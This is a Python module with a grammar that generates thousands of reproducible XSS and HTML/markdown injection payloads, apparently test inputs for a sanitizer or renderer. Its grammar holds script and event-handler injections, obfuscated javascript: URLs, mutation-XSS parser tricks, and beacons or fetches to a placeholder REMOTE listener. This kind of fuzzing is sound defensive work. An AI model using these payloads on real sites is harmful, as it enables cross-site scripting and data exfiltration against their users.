"""Hostile texts by the thousand, grown from a grammar: the same ones at every growing."""

from __future__ import annotations

import html
import random
import re
from base64 import b64encode
from collections.abc import Callable
from urllib.parse import quote

MARK = "document.documentElement.dataset.ran=1"
"""What a script does to be noticed. REMOTE stands for the address of a listener."""
# ruff: noqa: E501 - what is grown here does not come in lines
DEEPEST = 6
FITTING = 0.9
"""How often a quotation mark is the one that the text uses."""
_NAME = re.compile(r"«(\w+)»")

GRAMMAR: dict[str, tuple[str, ...]] = {
    "text": (
        "«closer»«element»",
        "«closer»«element»",
        "«before»«element»«after»",
        "«markdown»",
        "«markdown»",
        "«mutant»",
        "«fetching»",
        "«closer»«fetching»",
        "«styling»",
    ),
    "before": ("", "- ", "> ", "# ", "1. ", "*", "**", "| a | b |\n|---|---|\n| ", "[", "`", "    "),
    "after": ("", "*", "**", " | x |", "](https://x.example)", "`", "\n===", "\n\ntext"),
    "closer": (
        *("", "", "", '">', "'>", "-->", "]]>", "</p>", "</title>", "</textarea>", "</style>"),
        *("</script>", "</noscript>", "</template>", "</select>", "<b <", "<", "<!--", "<p title='"),
    ),
    "gap": (" ", " ", " ", "\n", "\t", "/", " / ", "\r\n", "\f", "//", ' x="" ', " =x "),
    "q": ("'", '"', ""),
    "act": (
        MARK,
        "document.title='ran'",
        "top.document.documentElement.dataset.ran=1",
        "self['doc'+'ument'].title='ran'",
        f"setTimeout(()=>{{{MARK}}})",
        "location='REMOTE/moved'",
        "new Image().src='REMOTE/beacon'",
        "fetch('REMOTE/fetched')",
        "navigator.sendBeacon('REMOTE/sent','x')",
        "open('REMOTE/opened')",
        "import('REMOTE/module.js')",
        "alert(1)",
        "«coded»",
    ),
    "coded": ("eval(atob('«b64»'))", "Function`«esc»```", "[1].find(function(){«esc»})"),
    "element": (
        "<«tag»«gap»«event»=«q»«act»«q»>",
        "<«tag»«gap»«event»=«q»«act»«q»>",
        "<«loading»=«q»«act»«q»>",
        "<«loading»=«q»«act»«q»>x</«tag»>",
        "<«loading»=`«act»`>",
        "<script>«act»</script>",
        "<script«gap»type=«q»module«q»>«act»</script>",
        "<script«gap»src=«q»«url»«q»></script>",
        "<scr<script>ipt>«act»</scr</script>ipt>",
        "<svg><script>«act»</script></svg>",
        "<svg><script>/*<![CDATA[*/«act»/*]]>*/</script></svg>",
        "<svg><script«gap»href=«q»«url»«q» /></svg>",
        "<a«gap»href=«q»«url»«q»«gap»id=go>x</a>",
        "<a«gap»href=«q»«url»«q»«gap»id=go>x</a>",
        "<map><area«gap»href=«q»«url»«q»«gap»id=go></map>",
        "<form«gap»action=«q»«url»«q»><button id=go>x</button></form>",
        "<form><button«gap»formaction=«q»«url»«q»«gap»id=go>x</button></form>",
        "<form id=f></form><input type=submit form=f formaction=«q»«url»«q» id=go>",
        "<iframe«gap»src=«q»«url»«q»></iframe>",
        "<iframe«gap»srcdoc=«q»<script>parent.«act»</script>«q»></iframe>",
        "<object«gap»data=«q»«url»«q»></object>",
        "<embed«gap»src=«q»«url»«q»>",
        "<meta«gap»http-equiv=refresh content=«q»0;url=«url»«q»>",
        "<base«gap»href=«q»«url»«q»><img src=x>",
        "<svg><a><«svgset»«gap»attributeName=href «svgto»=«q»«url»«q» /><text y=9>x</text></a></svg>",
        "<svg><use href=«q»«url»«q» /></svg>",
        "<svg><animate«gap»onbegin=«q»«act»«q» attributeName=x dur=1s />",
        "<math><«mtag» xlink:href=«q»«url»«q» id=go>x</«mtag»></math>",
    ),
    "svgset": ("set", "animate"),
    "svgto": ("to", "values", "from"),
    "mtag": ("mi", "mtext", "maction", "mrow"),
    "tag": (
        *("a", "p", "b", "div", "img", "svg", "body", "video", "audio", "input", "button", "marquee"),
        *("details", "table", "td", "x-own", "q", "abbr", "li", "blockquote", "h2", "math", "em"),
    ),
    "event": (
        *("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onstart", "onwheel"),
        *("onanimationstart", "ontransitionend", "onpointerenter", "onbeforetoggle", "onpageshow"),
        *("onscroll", "onresize", "onhashchange", "oncontentvisibilityautostatechange", "on", "onx"),
    ),
    "loading": (
        "img«gap»src=«q»x«q»«gap»onerror",
        "img/src/onerror",
        "svg«gap»onload",
        "body«gap»onload",
        "details«gap»open«gap»ontoggle",
        "input«gap»autofocus«gap»onfocus",
        "button«gap»autofocus«gap»onfocus",
        "a«gap»href=#x«gap»autofocus«gap»onfocus",
        "video«gap»src=x«gap»onerror",
        "audio«gap»src=x«gap»onerror",
        "video><source«gap»onerror",
        "style«gap»onload",
        "link«gap»rel=stylesheet href=x onerror",
        "iframe«gap»onload",
        "object«gap»data=x onerror",
        "marquee«gap»onstart",
        "p«gap»tabindex=1 autofocus contenteditable onfocus",
        "svg><image«gap»href=x onerror",
        "svg><g«gap»onload",
        "style>@keyframes k{}</style><p«gap»style=animation:k+1ms onanimationstart",
        "div«gap»style=content-visibility:auto oncontentvisibilityautostatechange",
    ),
    "url": (
        *("«js»«act»", "«js»«act»", "«js»//%0a«act»", "«js»void(0)/*`/*'/*\"/**/;«act»"),
        "data:text/html,<script>«act»</script>",
        "data:text/html;base64,«b64html»",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='«act»'/>",
        "data:text/javascript,«act»",
        *("REMOTE/x", "//127.0.0.1:PORT/x", "REMOTE/x.js", "file:///etc/hostname", "blob:REMOTE/x"),
        *("view-source:REMOTE", "filesystem:REMOTE", "about:srcdoc", "nwpreview://doc/page.css"),
        *("nwpreview://media/../x", "qrc:/x", "chrome://version", "vbscript:x", "ws://127.0.0.1:PORT"),
    ),
    "js": (
        *("javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "java\tscript:"),
        *("java\nscript:", "java&#9;script:", "java&NewLine;script:", "javascript&colon;"),
        *("&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript&#58;"),
        *("jav\u00adascript:", "javascript\u200b:", "ｊavascript:", "%6aavascript:", "javascript&Tab;:"),
        *("feed:javascript:", "\u2028javascript:", "javascript:javascript:"),
    ),
    "markdown": (
        *("[x](«url»)", "[x](<«url»>)", '[x](«url» "t")', "[x](«url» '\" «event»=«act» x=')"),
        *("<«url»>", "![x](«url»)", '![" onerror="«act»](x)', "![x](«url» '\"onerror=\"«act»')"),
        *("[x][r]\n\n[r]: «url»", "[r]\n\n[r]: <«url»> '\"«event»=«act»'", "[«element»](«url»)"),
        *("[x]\n\n[x]: «url»\n\n«element»", "[^«element»]\n\n[^«element»]: «element»"),
        *("x[^1]\n\n[^1]: «element»\n    «markdown»", "```«element»\n«element»\n```", "``«element»`"),
        *("| a |\n|---|\n| «element» |", "> «element»\n«element»", "- «element»\n\n    «element»"),
        *("{{picture: «element»}}", "{{related: a}}«element»", "<!-- «element» --> «element»"),
        *("<div markdown='1'>[x](«url»)</div>", "*«element»* _«act»_ \\<script>«act»", "&lt;«element»"),
        *("# «element» {#x «event»=«act»}", "[x](«url»){: «event»=«act»}", "*[x]: «element»\n\nx"),
        *("<a title='«element»'>x</a>", '<abbr title="«element»">x</abbr>', "<p lang='«element»'>"),
        *("[x](\n«url»\n)", "[a](b'«event»='«act»)", "<«url»@x.example>", "[x](https://x)«element»"),
    ),
    "mutant": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--><«loading»=«act»>'>",
        "<form><math><mtext></form><form><mglyph><style></math><«loading»=«act»>",
        "<svg></p><style><a id='</style><«loading»=«act»>'>",
        "<svg><desc><style><a title='</style><«loading»=«act»>'></desc></svg>",
        "<svg><foreignObject><p><style><!--</style></foreignObject><«loading»=«act»>-->",
        "<math><annotation-xml encoding='text/html'><«loading»=«act»></annotation-xml></math>",
        "<noscript><p title='</noscript><«loading»=«act»>'>",
        "<«raw»><p title='</«raw»><«loading»=«act»>'>",
        "<«raw»>«element»</«raw»>",
        "<table><«raw»>«element»</table>",
        "<template><«loading»=«act»></template>",
        "<template shadowrootmode=open><«loading»=«act»></template>",
        "<select><option><style></option></select><«loading»=«act»></style>",
        "<!--><«loading»=«act»>-->",
        "<!--!><«loading»=«act»>--!>",
        "<!-- x --!><«loading»=«act»>",
        "<![CDATA[><«loading»=«act»>]]>",
        "<?x ><«loading»=«act»>?>",
        "</x ><«loading»=«act»>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM '«url»'>]><«loading»=«act»>&e;",
        "<a title=\"</a><«loading»=«act»>\" href='«url»'>x</a>",
        "<img alt='`><«loading»=«act»>' src=x>`",
        "<div><div><table><a><b><i><a>«element»</table></b>«element»",
    ),
    "raw": (
        *("title", "textarea", "xmp", "noembed", "noframes", "plaintext", "listing", "iframe"),
        *("style", "script", "svg", "math", "select", "object", "video", "frameset", "colgroup"),
    ),
    "fetching": (
        "<link«gap»rel=«q»«rel»«q»«gap»href=«q»REMOTE/l«q»>",
        "<link«gap»rel=«q»«rel»«q»«gap»as=image href=«q»//127.0.0.1:PORT«q»>",
        "<img«gap»src=«q»REMOTE/i.png«q»>",
        "<img«gap»srcset=«q»REMOTE/1.png 1x, REMOTE/2.png 2x«q»>",
        "<picture><source«gap»srcset=REMOTE/s.webp><img src=x></picture>",
        "<video«gap»«media»=«q»REMOTE/v«q» autoplay></video>",
        "<audio«gap»src=«q»REMOTE/a«q» autoplay preload=auto></audio>",
        "<video><track«gap»src=REMOTE/t default></video>",
        "<input«gap»type=image src=«q»REMOTE/n«q»>",
        "<«tag»«gap»background=«q»REMOTE/b«q»>x",
        "<svg><image«gap»«svghref»=«q»REMOTE/g«q» width=9 height=9 /></svg>",
        "<svg><filter id=f><feImage href=REMOTE/f /></filter><rect filter=url(#f) width=9 height=9 />",
        "<iframe«gap»src=«q»REMOTE/f«q»></iframe>",
        "<a«gap»href=#x ping=«q»REMOTE/p«q» id=go>x</a>",
        "<html manifest=REMOTE/m><body background=REMOTE/w>",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"REMOTE/r\"]}]}</script>",
        "![x](REMOTE/m.png)",
        "![x][r]\n\n[r]: REMOTE/m.png",
    ),
    "media": ("src", "poster"),
    "svghref": ("href", "xlink:href"),
    "rel": (
        *("preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "stylesheet", "icon"),
        *("alternate stylesheet", "manifest", "prerender", "pingback", "apple-touch-icon", "next"),
    ),
    "styling": (
        "<style>«css»</style><«tag»>x",
        "<«tag»«gap»style=«q»«property»:«cssurl»«q»>x",
        "<svg><style>«css»</style><rect/></svg>",
        "<p><style>@media all{«css»}",
        "<link«gap»rel=stylesheet href=«q»data:text/css,«css»«q»>",
        "<«tag»«gap»style=«q»width:expression(«act»)«q»>x",
        "<«tag»«gap»style=«q»-moz-binding:«cssurl»;behavior:«cssurl»«q»>x",
    ),
    "css": (
        *("@import «cssurl»;", "@import 'REMOTE/i';", "*{«property»:«cssurl»}", "@charset 'x';"),
        "@font-face{font-family:z;src:«cssurl»}*{font-family:z}",
        "a[href^=h]{«property»:«cssurl»}*{--v:«cssurl»;background:var(--v)}",
        "*{background:image-set(«cssurl» 1x)}",
    ),
    "property": (
        *("background", "list-style", "cursor", "border-image", "mask", "content", "filter"),
        *("clip-path", "shape-outside", "-webkit-mask-image", "background-image"),
    ),
    "cssurl": ("url(REMOTE/c)", "url('REMOTE/c')", "URL(REMOTE/c)", "\\75rl(REMOTE/c)", "url(«js»«act»)"),
}  # fmt: skip


class Grower:
    """Grows one text after the other; none twice."""

    def __init__(self, seed: int) -> None:
        self._chance = random.Random(seed)
        self._grown: set[str] = set()
        self._quote = ""
        self._disguises: tuple[Callable[[str], str], ...] = (
            str.upper,
            str.swapcase,
            self._null,
            self._entities,
            lambda text: text.replace(" ", "\u00a0", 1),
            lambda text: text + text,
            lambda text: "\ufeff" + text,
            lambda text: text.replace(">", "", 1),
            lambda text: text.replace("'", "&apos;").replace('"', "&#34;"),
        )

    def texts(self, count: int) -> list[str]:
        """Return so many."""
        found: list[str] = []
        while len(found) < count:
            self._quote = self._chance.choice(GRAMMAR["q"])
            text = self._expand("text", 0)
            if self._chance.random() < 0.25:
                text = self._chance.choice(self._disguises)(text)
            if text not in self._grown:
                self._grown.add(text)
                found.append(text)
        return found

    def _expand(self, name: str, depth: int) -> str:
        if name == "b64":
            return b64encode(MARK.encode()).decode()
        if name == "b64html":
            return b64encode(f"<script>{MARK}</script>".encode()).decode()
        if name == "esc":
            return "".join(f"\\x{ord(letter):02x}" for letter in MARK)
        if depth > DEEPEST:
            return "x"
        if name == "q" and self._chance.random() < FITTING:
            return self._quote
        chosen = self._chance.choice(GRAMMAR[name])
        grown = _NAME.sub(lambda found: self._expand(found[1], depth + 1), chosen)
        if name == "act":
            return self._chance.choice((str, str, str, html.escape, quote, self._entities))(grown)
        return grown

    def _null(self, text: str) -> str:
        place = self._chance.randrange(len(text) + 1)
        return text[:place] + "\0" + text[place:]

    def _entities(self, text: str) -> str:
        """Write some letters as entities."""
        return "".join(
            f"&#{'x' if odd else ''}{ord(letter):{'x' if odd else 'd'}}{';' if odd else ''}"
            if letter.isalpha() and self._chance.random() < 0.3
            else letter
            for letter in text
            for odd in (self._chance.random() < 0.5,)
        )
